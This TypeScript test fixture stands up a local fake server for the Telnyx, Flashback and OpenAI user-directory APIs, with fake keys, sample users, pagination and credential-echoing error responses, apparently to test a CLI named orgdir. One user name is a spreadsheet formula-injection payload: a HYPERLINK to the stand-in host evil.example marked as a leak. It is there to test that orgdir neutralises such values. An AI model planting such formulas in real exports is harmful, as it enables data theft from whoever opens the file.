import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Vendor } from '@orgdir/client';

/** The key the tests send; asserted never to appear in orgdir's output. */
export const FAKE_KEYS = {
  telnyx: 'KEY_telnyx_s3cr3t_0123456789',
  flashback: 'KEY_flashback_s3cr3t_0123456789',
  openai: 'sk-admin-s3cr3t-0123456789',
} as const;

/** The environment that gives orgdir every fake key. */
export const FAKE_ENV = {
  TELNYX_API_KEY: FAKE_KEYS.telnyx,
  FLASHBACK_API_KEY: FAKE_KEYS.flashback,
  OPENAI_ADMIN_KEY: FAKE_KEYS.openai,
};

/** A cell that a spreadsheet would run as a formula if orgdir did not neutralise it. */
export const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak","click me")';

export const TELNYX_USERS = [
  {
    id: 't-1',
    record_type: 'organization_sub_user',
    email: 'alice@example.com',
    user_status: 'enabled',
    organization_user_bypasses_sso: false,
    created_at: '2024-01-02T03:04:05.000Z',
    last_sign_in_at: '2024-02-03T04:05:06.000Z',
    groups: [
      { id: 'tg-1', name: 'Engineering' },
      { id: 'tg-2', name: 'Sales' },
    ],
  },
  {
    id: 't-2',
    record_type: 'organization_owner',
    email: 'owner@example.com',
    user_status: 'enabled',
    organization_user_bypasses_sso: false,
    created_at: '2023-01-01T00:00:00.000Z',
    last_sign_in_at: null,
    groups: [],
  },
  {
    id: 't-3',
    record_type: 'organization_sub_user',
    email: 'bob@example.com',
    user_status: 'disabled',
    organization_user_bypasses_sso: true,
    created_at: '2024-05-06T07:08:09.000Z',
    last_sign_in_at: '2024-06-07T08:09:10.000Z',
    groups: [{ id: 'tg-1', name: 'Engineering' }],
  },
];

export const FLASHBACK_USERS = [
  {
    id: 'f-1',
    email: 'eve@example.com',
    name: FORMULA_NAME,
    lastName: '',
    orgId: 'org-1',
    orgRole: 0,
    validated: true,
    deletedAt: null,
    orgRoleDescription: 'USER',
    orgRoles: [0],
  },
  {
    id: 'f-2',
    email: 'john.doe@example.com',
    name: 'John',
    lastName: 'Doe',
    orgId: 'org-1',
    orgRole: 255,
    validated: true,
    deletedAt: null,
    orgRoleDescription: 'OWNER',
    orgRoles: [0, 1, 2, 254, 255],
  },
  {
    id: 'f-3',
    email: 'gone@example.com',
    name: 'Gone',
    lastName: 'User',
    orgId: 'org-1',
    orgRole: 2,
    validated: true,
    deletedAt: '2024-03-03T00:00:00.000Z',
    orgRoleDescription: 'WORKSPACES',
    orgRoles: [0, 2],
  },
  // No email: the client cannot map it, and orgdir must say so rather than drop it silently.
  { id: 'f-4', name: 'No', lastName: 'Email', orgRole: 0, validated: true, deletedAt: null },
];

export const OPENAI_USERS = [
  {
    object: 'organization.user',
    id: 'user-1',
    name: 'Doe, Jane',
    email: 'jane@example.com',
    role: 'owner',
    added_at: 1711471533,
  },
  {
    object: 'organization.user',
    id: 'user-2',
    name: '+1 "quoted"',
    email: 'plus@example.com',
    role: 'reader',
    added_at: 1711472599,
  },
];

export const OPENAI_GROUPS = [
  { id: 'group-1', name: 'Support Team', created_at: 1711471533, is_scim_managed: false },
  { id: 'group-2', name: 'Sales', created_at: 1711472599, is_scim_managed: true },
];

const OPENAI_MEMBERS: Record<string, string[]> = { 'group-1': ['user-1'], 'group-2': ['user-1', 'user-2'] };

/** How a vendor should answer: normally, or with an error status for every request. */
export type Behaviour = 'ok' | { status: number; echoAuthorization?: boolean };

/** One request the fake received. */
export interface Recorded {
  vendor: Vendor;
  path: string;
  query: URLSearchParams;
  authorization: string | undefined;
  accept: string | undefined;
}

/** A local HTTP server speaking the three vendors' APIs, one vendor per path prefix. */
export interface FakeVendors {
  baseUrls: Record<Vendor, string>;
  /** `--base-url-*` flags for every vendor. */
  flags: string[];
  requests: Recorded[];
  behave(vendor: Vendor, behaviour: Behaviour): void;
  reset(): void;
  close(): Promise<void>;
}

const TELNYX_PAGE_CAP = 2;
const OPENAI_PAGE_CAP = 1;

function send(res: ServerResponse, status: number, body: unknown): void {
  res.writeHead(status, { 'content-type': 'application/json', 'x-request-id': 'req-fake-1' });
  res.end(JSON.stringify(body));
}

function errorBody(vendor: Vendor, status: number, echo?: string): unknown {
  switch (vendor) {
    case 'telnyx':
      return {
        errors: [
          {
            code: '10009',
            title: 'Authentication failed',
            detail: echo ? `Bad header: ${echo}` : 'Could not understand the provided credentials.',
          },
        ],
      };
    case 'flashback':
      return { success: false, data: [], total: 0 };
    case 'openai':
      return {
        error: {
          message: echo ? `Bad header: ${echo}` : `Fake failure ${status}`,
          type: 'invalid_request_error',
          code: null,
          param: null,
        },
      };
  }
}

/** A page of OpenAI's cursor listing: `after` is the last id seen. */
function openaiPage<T extends { id: string }>(items: readonly T[], query: URLSearchParams): unknown {
  const after = query.get('after');
  const start = after ? items.findIndex((i) => i.id === after) + 1 : 0;
  const limit = Math.min(Number(query.get('limit') ?? 20), OPENAI_PAGE_CAP);
  const data = items.slice(start, start + limit);
  const hasMore = start + limit < items.length;
  return {
    object: 'list',
    data,
    first_id: data[0]?.id ?? null,
    last_id: data.at(-1)?.id ?? null,
    has_more: hasMore,
    next: hasMore ? (data.at(-1)?.id ?? null) : null,
  };
}

function handle(vendor: Vendor, path: string, query: URLSearchParams, req: IncomingMessage, res: ServerResponse): void {
  switch (`${vendor} ${path}`) {
    case 'telnyx /organizations/users': {
      const status = query.get('filter[user_status]');
      const email = query.get('filter[email]');
      const groups = query.get('include_groups') === 'true';
      const all = TELNYX_USERS.filter(
        (u) => (!status || u.user_status === status) && (!email || u.email.includes(email)),
      ).map(({ groups: g, ...u }) => (groups ? { ...u, groups: g } : u));
      const size = Math.min(Number(query.get('page[size]') ?? 250), TELNYX_PAGE_CAP);
      const number = Number(query.get('page[number]') ?? 1);
      const totalPages = Math.max(1, Math.ceil(all.length / size));
      send(res, 200, {
        data: all.slice((number - 1) * size, number * size),
        meta: { total_pages: totalPages, total_results: all.length, page_number: number, page_size: size },
      });
      return;
    }
    case 'telnyx /organizations/users/users_groups_report': {
      if ((req.headers.accept ?? '').includes('text/csv')) {
        res.writeHead(200, { 'content-type': 'text/csv' });
        const rows = TELNYX_USERS.map((u) =>
          [
            u.id,
            u.email,
            u.user_status,
            u.created_at,
            u.last_sign_in_at ?? '',
            `"${u.groups.map((g) => g.name).join(', ')}"`,
          ].join(','),
        );
        res.end(['id,email,user_status,created_at,last_sign_in_at,groups', ...rows].join('\n'));
        return;
      }
      send(res, 200, { data: TELNYX_USERS });
      return;
    }
    case 'flashback /organization/users':
      send(res, 200, { success: true, data: FLASHBACK_USERS, total: FLASHBACK_USERS.length });
      return;
    case 'openai /organization/users':
      send(res, 200, openaiPage(OPENAI_USERS, query));
      return;
    case 'openai /organization/groups':
      send(res, 200, openaiPage(OPENAI_GROUPS, query));
      return;
  }
  const members = /^\/organization\/groups\/([^/]+)\/users$/.exec(path);
  if (vendor === 'openai' && members) {
    const ids = OPENAI_MEMBERS[decodeURIComponent(members[1] ?? '')];
    if (!ids) {
      send(res, 404, { error: { message: 'No such group', type: 'invalid_request_error', code: null, param: null } });
      return;
    }
    send(
      res,
      200,
      openaiPage(
        OPENAI_USERS.filter((u) => ids.includes(u.id)),
        query,
      ),
    );
    return;
  }
  send(res, 404, errorBody(vendor, 404));
}

/** Starts the fake vendors on a free loopback port; `keys` replaces the bearer tokens they accept. */
export async function startFakeVendors(options: { keys?: Partial<Record<Vendor, string>> } = {}): Promise<FakeVendors> {
  const keys: Record<Vendor, string> = { ...FAKE_KEYS, ...options.keys };
  const behaviours = new Map<Vendor, Behaviour>();
  const requests: Recorded[] = [];
  const server: Server = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://localhost');
    const [, vendor, ...rest] = url.pathname.split('/');
    if (vendor !== 'telnyx' && vendor !== 'flashback' && vendor !== 'openai') {
      res.writeHead(404).end();
      return;
    }
    const path = `/${rest.join('/')}`;
    requests.push({
      vendor,
      path,
      query: url.searchParams,
      authorization: req.headers.authorization,
      accept: req.headers.accept,
    });
    const behaviour = behaviours.get(vendor) ?? 'ok';
    if (behaviour !== 'ok') {
      // A careless server may echo the credentials back; orgdir must still never print them.
      send(
        res,
        behaviour.status,
        errorBody(vendor, behaviour.status, behaviour.echoAuthorization ? req.headers.authorization : undefined),
      );
      return;
    }
    if (req.headers.authorization !== `Bearer ${keys[vendor]}`) {
      send(res, 401, errorBody(vendor, 401));
      return;
    }
    handle(vendor, path, url.searchParams, req, res);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const root = `http://127.0.0.1:${port}`;
  const baseUrls = { telnyx: `${root}/telnyx`, flashback: `${root}/flashback`, openai: `${root}/openai` };
  return {
    baseUrls,
    flags: [
      '--base-url-telnyx',
      baseUrls.telnyx,
      '--base-url-flashback',
      baseUrls.flashback,
      '--base-url-openai',
      baseUrls.openai,
    ],
    requests,
    behave: (vendor, behaviour) => behaviours.set(vendor, behaviour),
    reset: () => {
      behaviours.clear();
      requests.length = 0;
    },
    close: () =>
      new Promise<void>((resolve, reject) => {
        server.closeAllConnections();
        server.close((error) => (error ? reject(error) : resolve()));
      }),
  };
}
